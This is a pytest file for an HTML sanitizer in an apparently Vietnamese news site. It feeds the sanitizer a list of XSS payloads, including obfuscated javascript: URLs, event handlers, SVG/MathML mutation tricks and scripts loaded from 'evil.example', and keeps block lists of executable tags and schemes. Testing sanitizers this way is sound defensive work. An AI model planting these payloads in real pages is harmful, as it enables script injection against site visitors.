"""core.html.sanitize_html: nothing executable survives, the newsroom's formatting does."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from core.html import html_to_text, sanitize_html

EXECUTABLE_TAGS = {
    "script",
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "svg",
    "math",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "meta",
    "link",
    "base",
    "template",
    "noscript",
    "xmp",
    "plaintext",
    "video",
    "audio",
    "source",
    "details",
    "marquee",
    "isindex",
    "animate",
    "set",
}
URL_ATTRIBUTES = {
    "href",
    "src",
    "srcset",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "background",
}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:")


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def executable_parts(markup: str) -> list[str]:
    """Everything in markup a browser could run: tags, handlers, styles, script URLs."""
    parser = _Collector()
    parser.feed(markup)
    parser.close()
    found = []
    for tag, attrs in parser.tags:
        if tag in EXECUTABLE_TAGS:
            found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "srcdoc", "formaction"}:
                found.append(f"{tag}[{name}]")
            if name in URL_ATTRIBUTES and value is not None:
                # Browsers ignore ASCII whitespace and controls inside the scheme.
                squeezed = re.sub(r"[\x00-\x20]", "", value).lower()
                if squeezed.startswith(BAD_SCHEMES):
                    found.append(f"{tag}[{name}={value!r}]")
    return found


XSS_VECTORS = [
    # (id, payload)
    ("script", "<script>alert(1)</script>"),
    ("script-src", '<script src="https://evil.example/x.js"></script>'),
    ("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script-unclosed", "<script>alert(1)"),
    ("img-onerror", '<img src="x" onerror="alert(1)">'),
    ("img-onerror-unquoted", "<img src=x onerror=alert(1)//>"),
    ("img-onerror-case", '<IMG SRC="x" OnErRoR="alert(1)">'),
    ("body-onload", '<body onload="alert(1)">'),
    ("p-onmouseover", '<p onmouseover="alert(1)">Đưa chuột vào đây</p>'),
    ("a-javascript", '<a href="javascript:alert(1)">Xem thêm</a>'),
    ("a-javascript-case", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    ("a-javascript-tab", '<a href="jav\tascript:alert(1)">x</a>'),
    ("a-javascript-entity-tab", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("a-javascript-decimal", '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>'),
    ("a-javascript-hex-nosemi", '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>'),
    ("a-javascript-leading-space", '<a href="  javascript:alert(1)">x</a>'),
    ("a-javascript-leading-ctrl", '<a href="\x01javascript:alert(1)">x</a>'),
    ("a-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("a-data-html", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    ("img-data", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
    ("img-javascript", '<img src="javascript:alert(1)">'),
    ("svg-onload", '<svg onload="alert(1)"><circle r="1"/></svg>'),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-a-xlink", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    ("svg-animate", '<svg><animate onbegin="alert(1)" attributeName="x"/></svg>'),
    ("math-xlink", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
    ("math-mglyph-mutation", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("style-tag", "<style>body{background:url(javascript:alert(1))}</style>"),
    ("style-attr", '<p style="background:url(javascript:alert(1))">Đảng</p>'),
    ("style-expression", '<div style="width: expression(alert(1))">x</div>'),
    ("iframe-src", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("object-data", '<object data="javascript:alert(1)"></object>'),
    ("embed-src", '<embed src="https://evil.example/x.swf">'),
    ("form-action", '<form action="javascript:alert(1)"><input type="submit"></form>'),
    ("button-formaction", '<button formaction="javascript:alert(1)">Gửi</button>'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base-href", '<base href="javascript:alert(1)//">'),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("nested-script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("comment-hidden", "<!--<script>alert(1)</script>--><p>Văn bản</p>"),
    ("conditional-comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    ("noscript-mutation", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("title-breakout", "<title><img src=x onerror=alert(1)></title>"),
    ("textarea-breakout", "<textarea></textarea><img src=x onerror=alert(1)>"),
    ("template", "<template><img src=x onerror=alert(1)></template>"),
    ("details-ontoggle", '<details open ontoggle="alert(1)">x</details>'),
    ("video-source", '<video><source onerror="alert(1)"></video>'),
    ("table-background", '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'),
    ("td-onclick", '<table><tr><td onclick="alert(1)">Ô</td></tr></table>'),
    ("a-target-and-rel", '<a href="https://x.vn" target="_blank" rel="opener">x</a>'),
    ("unclosed-attribute", '<img src="x" alt="a onerror=alert(1)//'),
    ("null-in-tag", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    ("img-srcset", '<img srcset="javascript:alert(1) 1x">'),
    ("isindex", "<isindex type=image src=1 onerror=alert(1)>"),
    ("marquee", "<marquee onstart=alert(1)>x</marquee>"),
]

# Payloads that leave a raw-text element or an attribute open: what follows them is
# part of the payload for a browser too, and is dropped with it.
SWALLOWS_THE_REST = {
    "<script>alert(1)",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<img src="x" alt="a onerror=alert(1)//',
}


@pytest.mark.parametrize("payload", [v for _, v in XSS_VECTORS], ids=[i for i, _ in XSS_VECTORS])
def test_xss_vector_leaves_nothing_executable(payload):
    wrapped = f"<p>Nghị quyết số 57-NQ/TW của Bộ Chính trị</p>{payload}<p>Đảng bộ tỉnh Hà Nam</p>"
    cleaned = sanitize_html(wrapped)
    assert executable_parts(cleaned) == [], cleaned
    assert "<script" not in cleaned.lower()
    assert "javascript:" not in cleaned.lower().replace("\t", "")
    # The Vietnamese text before the payload is kept as it was; the text after it too,
    # unless the payload leaves an element open that, as in a browser, swallows it.
    assert cleaned.startswith("<p>Nghị quyết số 57-NQ/TW của Bộ Chính trị</p>")
    if payload not in SWALLOWS_THE_REST:
        assert cleaned.endswith("<p>Đảng bộ tỉnh Hà Nam</p>")


def test_sanitizer_is_stable_when_run_twice():
    """Saving an article again must not open a door the first pass closed."""
    for _, payload in XSS_VECTORS:
        once = sanitize_html(payload)
        twice = sanitize_html(once)
        assert executable_parts(twice) == []
        assert twice == once


# --- what must survive -------------------------------------------------------------

LEGITIMATE = [
    ("<h2>Tiêu đề mục</h2><h3>Tiêu đề nhỏ</h3>", "<h2>Tiêu đề mục</h2><h3>Tiêu đề nhỏ</h3>"),
    (
        "<p><strong>Đậm</strong>, <em>nghiêng</em>, <u>gạch dưới</u>, <s>gạch ngang</s>, "
        "H<sub>2</sub>O, m<sup>2</sup></p>",
        "<p><strong>Đậm</strong>, <em>nghiêng</em>, <u>gạch dưới</u>, <s>gạch ngang</s>, "
        "H<sub>2</sub>O, m<sup>2</sup></p>",
    ),
    (
        '<ul><li>Một</li><li>Hai</li></ul><ol start="3"><li>Ba</li></ol>',
        '<ul><li>Một</li><li>Hai</li></ul><ol start="3"><li>Ba</li></ol>',
    ),
    (
        "<blockquote><p>Khoa học, công nghệ là quốc sách hàng đầu.</p></blockquote>",
        "<blockquote><p>Khoa học, công nghệ là quốc sách hàng đầu.</p></blockquote>",
    ),
    (
        '<table><thead><tr><th scope="col">Cấp</th><th>Số điểm cầu</th></tr></thead>'
        "<tbody><tr><td>Cấp tỉnh</td><td>01</td></tr>"
        '<tr><td colspan="2">Tổng: 252</td></tr></tbody></table>',
        '<table><thead><tr><th scope="col">Cấp</th><th>Số điểm cầu</th></tr></thead>'
        "<tbody><tr><td>Cấp tỉnh</td><td>01</td></tr>"
        '<tr><td colspan="2">Tổng: 252</td></tr></tbody></table>',
    ),
    (
        '<figure class="image image-style-align-center"><img src="/media/images/a.jpg" '
        'alt="Đại biểu dự hội nghị" width="800" height="600"><figcaption>Các đại biểu dự '
        "hội nghị tại điểm cầu Hà Nam</figcaption></figure>",
        '<figure class="image image-style-align-center"><img src="/media/images/a.jpg" '
        'alt="Đại biểu dự hội nghị" width="800" height="600"><figcaption>Các đại biểu dự '
        "hội nghị tại điểm cầu Hà Nam</figcaption></figure>",
    ),
    ("<p>Dòng một<br>Dòng hai</p><hr>", "<p>Dòng một<br>Dòng hai</p><hr>"),
]


@pytest.mark.parametrize(("markup", "expected"), LEGITIMATE)
def test_legitimate_formatting_survives(markup, expected):
    assert sanitize_html(markup) == expected


def test_links_keep_href_and_title_and_get_safe_rel():
    cleaned = sanitize_html(
        '<p>Xem <a href="https://dangcongsan.vn/nq-57" title="Toàn văn">toàn văn</a>, '
        'liên hệ <a href="mailto:bantuyengiao@hanam.gov.vn">e-mail</a> '
        'hoặc <a href="tel:+842263852701">điện thoại</a>.</p>'
    )
    assert (
        '<a href="https://dangcongsan.vn/nq-57" title="Toàn văn" rel="noopener noreferrer">'
        "toàn văn</a>"
    ) in cleaned
    assert 'href="mailto:bantuyengiao@hanam.gov.vn"' in cleaned
    assert 'href="tel:+842263852701"' in cleaned


def test_unknown_classes_and_ids_are_removed():
    cleaned = sanitize_html('<figure class="image evil-overlay" id="x"><img src="/a.jpg"></figure>')
    assert cleaned == '<figure class="image"><img src="/a.jpg"></figure>'


def test_dropped_containers_lose_their_content_but_unknown_tags_keep_text():
    assert sanitize_html("<script>var bí_mật = 1;</script><p>Hiện</p>") == "<p>Hiện</p>"
    assert sanitize_html("<font color=red>Chữ đỏ</font>") == "Chữ đỏ"


def test_text_is_escaped_not_interpreted():
    cleaned = sanitize_html("<p>5 &lt; 7 &amp; &quot;xin - cho&quot;</p>")
    assert executable_parts(cleaned) == []
    assert html_to_text(cleaned) == '5 < 7 & "xin - cho"'


def test_sanitize_composes_nfd():
    import unicodedata

    cleaned = sanitize_html(unicodedata.normalize("NFD", "<p>Nghị quyết</p>"))
    assert cleaned == "<p>Nghị quyết</p>"


def test_sanitize_empty():
    assert sanitize_html(None) == ""
    assert sanitize_html("") == ""


def test_html_to_text_keeps_paragraphs_apart():
    text = html_to_text("<h2>Mục</h2><p>Đoạn một.</p><ul><li>Ý một</li><li>Ý hai</li></ul>")
    assert text.splitlines() == ["Mục", "Đoạn một.", "Ý một", "Ý hai"]


def test_links_cannot_reach_back_to_the_opener():
    cleaned = sanitize_html('<a href="https://x.vn" target="_blank" rel="opener">x</a>')
    assert cleaned == '<a href="https://x.vn" rel="noopener noreferrer">x</a>'


def test_html_to_text_keeps_table_cells_and_blocks_apart():
    text = html_to_text(
        "<table><tbody><tr><td>Đinh Thị Lụa</td><td>Phó Bí thư Thường trực Tỉnh ủy</td></tr>"
        "<tr><th>Cấp tỉnh</th><td>01</td></tr></tbody></table>"
        "<div>Một</div><div>Hai</div><figure><img src='/a.jpg'><figcaption>Ảnh</figcaption>"
        "</figure><p>Tiếp</p>"
    )
    words = text.split()
    assert "Lụa" in words and "Phó" in words
    assert "tỉnh" in words and "01" in words
    assert "Một" in words and "Hai" in words
    assert "Ảnh" in words
